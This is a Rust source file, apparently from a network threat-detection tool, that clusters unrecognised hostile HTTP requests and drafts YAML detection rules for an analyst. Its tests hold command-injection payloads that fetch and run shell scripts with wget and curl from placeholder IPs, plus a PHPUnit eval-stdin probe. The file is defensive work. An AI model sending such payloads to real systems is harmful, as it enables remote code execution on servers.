//! hostile requests that resemble nothing known → drafts of methods, in the form of `knowledge/methods`, for an analyst to accept.
//!
//! Requests that go to one place with the same parameters are one method, whatever they make it do and however they hide it. A
//! draft is only given where it works: read as a method it finds every example again, and no ordinary request.
//! Deliberately absent: product, CVE and entry, which a request does not tell.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use ringleader_model::hash::hash64;

use super::normalize::normalize;
use super::shape::{Aim, aim, provisional_name, signs_of};
use super::{Methods, knowledge};

/// Places that are told apart in one run; beyond it they go by a keyed hash, whole.
pub const PLACES: usize = 1 << 12;
/// Examples kept of one, and how much of each.
pub const EXAMPLES: usize = 5;
const EXAMPLE_BYTES: usize = 4 << 10;
/// Senders and targets that are counted one by one.
const COUNTED: usize = 1 << 10;
/// A literal shorter than this stands in too many requests.
const TELLING: usize = 5;
const LITERALS: usize = 8;

/// Hostile requests by where they go.
#[derive(Debug, Clone, Default)]
pub struct Drafts {
    by_place: BTreeMap<u64, Place>,
    pub left_out: u64,
}

#[derive(Debug, Clone)]
struct Place {
    path: Vec<String>,
    parameters: Vec<String>,
    effects: BTreeSet<&'static str>,
    count: u64,
    senders: BTreeSet<u64>,
    targets: BTreeSet<u64>,
    first: Option<i64>,
    last: Option<i64>,
    /// By hash: those with the smallest.
    examples: BTreeMap<u64, String>,
}

/// A method that nobody has named yet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Draft {
    /// `new_<where>_<what it does>`, which is its file's name too.
    pub id: String,
    pub count: u64,
    pub senders: usize,
    pub targets: usize,
    pub first: Option<i64>,
    pub last: Option<i64>,
    /// Its file.
    pub text: String,
}

impl Drafts {
    /// Adds one payload; whether it is a hostile one that no known method explains.
    pub fn add(&mut self, methods: &Methods, payload: &str, from: &str, to: &str, time: Option<i64>) -> bool {
        if !methods.identify(payload).is_empty() {
            return false;
        }
        let Some(Aim { path, parameters, effect, .. }) = aim(payload) else { return false };
        let key = hash64(format!("{}\n{}", path.join("/"), parameters.join("&")).as_bytes());
        if !self.by_place.contains_key(&key) && self.by_place.len() >= PLACES {
            self.left_out += 1;
            // The ones with the smallest hashes stay, whatever the order they came in.
            match self.by_place.last_key_value() {
                Some((last, _)) if *last > key => _ = self.by_place.pop_last(),
                _ => return true,
            }
        }
        let place = self.by_place.entry(key).or_insert_with(|| Place {
            path,
            parameters,
            effects: BTreeSet::new(),
            count: 0,
            senders: BTreeSet::new(),
            targets: BTreeSet::new(),
            first: None,
            last: None,
            examples: BTreeMap::new(),
        });
        place.count += 1;
        place.effects.insert(effect);
        place.first = [place.first, time].into_iter().flatten().min();
        place.last = [place.last, time].into_iter().flatten().max();
        for (set, text) in [(&mut place.senders, from), (&mut place.targets, to)] {
            if !text.is_empty() && set.len() < COUNTED {
                set.insert(hash64(text.as_bytes()));
            }
        }
        let example = &payload[..payload.floor_char_boundary(EXAMPLE_BYTES)];
        place.examples.insert(hash64(example.as_bytes()), example.to_owned());
        if place.examples.len() > EXAMPLES {
            place.examples.pop_last();
        }
        true
    }

    pub fn merge(&mut self, other: Self) {
        self.left_out += other.left_out;
        for (key, theirs) in other.by_place {
            match self.by_place.get_mut(&key) {
                Some(mine) => mine.merge(theirs),
                None => _ = self.by_place.insert(key, theirs),
            }
        }
        while self.by_place.len() > PLACES {
            self.by_place.pop_last();
            self.left_out += 1;
        }
    }

    /// The drafts that work, the most seen first; and those that do not, with the reason.
    pub fn finish(self) -> (Vec<Draft>, Vec<(String, String)>) {
        let (mut drafts, mut refused) = (Vec::new(), Vec::new());
        let mut taken: BTreeMap<String, u32> = BTreeMap::new();
        for place in self.by_place.into_values() {
            let effect = place.effects.first().copied().unwrap_or("code_evaluation");
            let mut id = provisional_name(&place.path, effect);
            let nth = taken.entry(id.clone()).or_default();
            *nth += 1;
            if *nth > 1 {
                let _ = write!(id, "_{nth}");
            }
            match place.draft(&id) {
                Ok(draft) => drafts.push(draft),
                Err(why) => refused.push((id, why)),
            }
        }
        drafts.sort_by(|a, b| (b.targets, b.count, &a.id).cmp(&(a.targets, a.count, &b.id)));
        (drafts, refused)
    }
}

impl Place {
    fn merge(&mut self, other: Self) {
        self.count += other.count;
        self.effects.extend(other.effects);
        self.senders.extend(other.senders);
        self.targets.extend(other.targets);
        self.first = [self.first, other.first].into_iter().flatten().min();
        self.last = [self.last, other.last].into_iter().flatten().max();
        self.examples.extend(other.examples);
        while self.examples.len() > EXAMPLES {
            self.examples.pop_last();
        }
    }

    /// What every example has: the path's longest run of plain parts, and names of parameters.
    fn must(&self) -> Vec<String> {
        let texts: Vec<String> = self.examples.values().map(|it| normalize(it)).collect();
        let in_all = |it: &String| texts.iter().all(|text| text.contains(it.as_str()));
        let runs = self.path.split(|part| part.starts_with('<'));
        let longest = runs.map(|it| it.join("/")).max_by_key(String::len).unwrap_or_default();
        let names = self.parameters.iter().flat_map(|it| [format!("{it}="), it.clone()]);
        let mut must: Vec<String> = Vec::new();
        for literal in std::iter::once(longest).chain(names) {
            let known = must.iter().any(|it| it.contains(&literal) || literal.contains(it.as_str()));
            if literal.len() >= TELLING && !known && in_all(&literal) && must.len() < LITERALS {
                must.push(literal);
            }
        }
        must
    }

    /// Signs that something is to run, of those that stand in the examples.
    fn attack(&self) -> Vec<&'static str> {
        let texts: Vec<String> = self.examples.values().map(|it| normalize(it)).collect();
        let signs = self.effects.iter().flat_map(|it| signs_of(it).iter().copied());
        let seen = signs.filter(|sign| sign.len() >= 3 && texts.iter().any(|text| text.contains(sign)));
        seen.take(LITERALS).collect()
    }

    /// The request, with what the attacker chooses marked.
    fn request(&self) -> String {
        let example = self.examples.values().next().map_or("", String::as_str);
        let verb = aim(example).map_or("get", |it| it.verb).to_ascii_uppercase();
        let part =
            |it: &String| if it.starts_with('<') { format!("{{{{{}}}}}", &it[1..it.len() - 1]) } else { it.clone() };
        let path: Vec<String> = self.path.iter().map(part).collect();
        let pairs: Vec<String> = self.parameters.iter().map(|it| format!("{it}={{{{{it}}}}}")).collect();
        let (path, pairs) = (path.join("/"), pairs.join("&"));
        match (verb.as_str(), pairs.is_empty()) {
            (_, true) => format!("{verb} /{path}\n\n{{{{payload}}}}"),
            ("GET" | "HEAD" | "DELETE" | "OPTIONS", false) => format!("{verb} /{path}?{pairs}"),
            (_, false) => format!("{verb} /{path}\n\n{pairs}"),
        }
    }

    fn draft(&self, id: &str) -> Result<Draft, String> {
        let must = self.must();
        if must.is_empty() {
            return Err("nothing in path or parameters tells it from other requests".to_owned());
        }
        if Methods::ordinary_has_all(&must) {
            return Err(format!("ordinary requests have {} too", must.join(", ")));
        }
        let text = self.text(id, &must);
        self.works(id, &text)?;
        Ok(Draft {
            id: id.to_owned(),
            count: self.count,
            senders: self.senders.len(),
            targets: self.targets.len(),
            first: self.first,
            last: self.last,
            text,
        })
    }

    fn text(&self, id: &str, must: &[String]) -> String {
        let list = |items: &mut dyn Iterator<Item = &str>| items.map(quoted).collect::<Vec<_>>().join(", ");
        let effects: Vec<&str> = self.effects.iter().copied().collect();
        let mut out = format!(
            "# A draft: seen {} times from {} addresses at {} hosts. Give it a name, product, CVE and references, look at the\n\
             # examples below, and put it in the folder of `--methods`. {id} is provisional.\n",
            self.count,
            self.senders.len(),
            self.targets.len()
        );
        let _ = writeln!(out, "id: {id}");
        let _ = writeln!(
            out,
            "name: {}",
            quoted(&format!("{} at /{}", effects.join(", ").replace('_', " "), self.path.join("/")))
        );
        out.push_str("class: exploit\ncve: null\nproduct: unknown\ntechnique: T1190\nrequests:\n");
        let _ = writeln!(out, "  - {}", double_quoted(&self.request()));
        let _ = writeln!(out, "must: [{}]", list(&mut must.iter().map(String::as_str)));
        let attack = self.attack();
        if !attack.is_empty() {
            let _ = writeln!(out, "attack: [{}]", list(&mut attack.iter().copied()));
        }
        out.push_str("references: []\n# Examples, one a line, what is no plain text escaped:\n");
        for example in self.examples.values() {
            let line: String = example.chars().take(1024).flat_map(char::escape_default).collect();
            let _ = writeln!(out, "#   {line}");
        }
        out
    }

    /// Read as a method, it finds every example and nothing ordinary.
    fn works(&self, id: &str, text: &str) -> Result<(), String> {
        knowledge::parse(text)?;
        let own = [(format!("{id}.yml"), text.to_owned())];
        let methods = Methods::with_only(&own);
        let finds = |payload: &str| methods.identify(payload).iter().any(|it| methods.get(it.method).id == id);
        let missed = self.examples.values().filter(|it| !finds(it)).count();
        if missed > 0 {
            return Err(format!("as a method it misses {missed} of {} examples", self.examples.len()));
        }
        match super::identify::ordinary().find(|it| finds(it)) {
            Some(it) => Err(format!("as a method it finds an ordinary request: {}", &it[..it.floor_char_boundary(80)])),
            None => Ok(()),
        }
    }
}

/// As YAML takes it for text, whatever stands in it.
fn quoted(text: &str) -> String {
    if text.chars().any(char::is_control) { double_quoted(text) } else { format!("'{}'", text.replace('\'', "''")) }
}

fn double_quoted(text: &str) -> String {
    serde_json::Value::String(text.to_owned()).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn drafts(payloads: &[&str]) -> (Vec<Draft>, Vec<(String, String)>) {
        let methods = Methods::builtin();
        let mut drafts = Drafts::default();
        for (n, payload) in payloads.iter().enumerate() {
            drafts.add(&methods, payload, &format!("203.0.113.{n}"), "web1", Some(n as i64));
        }
        drafts.finish()
    }

    const A: &str = "GET /portal/zork.cgi?action=diag&target=;wget+http://192.0.2.1/a.sh+-O+/tmp/a;sh+/tmp/a HTTP/1.1";
    const B: &str = "GET /portal/zork.cgi?target=%3Bcurl%20http%3A%2F%2F198.51.100.7%2Fzz%20%7Csh&action=x HTTP/1.1";

    #[test]
    fn requests_to_one_place_are_one_draft_that_works_when_accepted() {
        let (drafts, refused) = drafts(&[A, B, A]);
        assert_eq!((drafts.len(), refused), (1, vec![]), "{drafts:#?}");
        let draft = &drafts[0];
        assert_eq!(
            (&*draft.id, draft.count, draft.senders, draft.targets),
            ("new_portal_zork_cgi_download_and_run", 3, 3, 1)
        );
        let methods = Methods::with_files(&[(format!("{}.yml", draft.id), draft.text.clone())]);
        assert!(methods.problems.is_empty(), "{:?}", methods.problems);
        let methods = methods.value;
        // One that was not among the examples, and a look without a command.
        let other = "GET /portal/zork.cgi?action=1&target=|busybox+wget+http://203.0.113.9/q;chmod+777+q HTTP/1.1";
        let found = methods.identify(other);
        assert_eq!(found.first().map(|it| methods.get(it.method).id.as_str()), Some(&*draft.id));
        assert!(methods.identify("GET /portal/index.html HTTP/1.1").is_empty());
    }

    #[test]
    fn what_is_known_harmless_or_a_bare_command_gives_none() {
        let known = "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');";
        let (drafts, refused) = drafts(&[known, "GET /search?q=wget HTTP/1.1", "wget http://192.0.2.1/x | sh"]);
        assert_eq!((drafts, refused), (vec![], vec![]));
    }

    #[test]
    fn what_nothing_tells_apart_is_refused_with_the_reason() {
        let (drafts, refused) = drafts(&["GET /?x=;wget+http://192.0.2.1/a;sh+a HTTP/1.1"]);
        assert!(drafts.is_empty() && refused.len() == 1, "{drafts:#?} {refused:?}");
    }

    #[test]
    fn hostile_texts_stay_inside_the_file() {
        let evil =
            "GET /zork/\u{202e}admin.cgi?target='%0aid:%20evil;wget+http://192.0.2.1/a;sh+a HTTP/1.1\r\nX: \u{7}";
        let (drafts, refused) = drafts(&[evil, A]);
        assert!(drafts.len() + refused.len() == 2, "{drafts:#?}");
        for draft in drafts {
            assert!(draft.text.is_ascii() && draft.text.lines().filter(|it| it.starts_with("id: ")).count() == 1);
        }
    }

    #[test]
    fn the_order_does_not_matter() {
        let methods = Methods::builtin();
        let of = |payloads: &[&str]| {
            let mut drafts = Drafts::default();
            payloads.iter().for_each(|it| _ = drafts.add(&methods, it, "a", "b", Some(1)));
            drafts
        };
        let mut parts = of(&[B]);
        parts.merge(of(&[A, A]));
        assert_eq!(parts.finish(), of(&[A, B, A]).finish());
    }
}
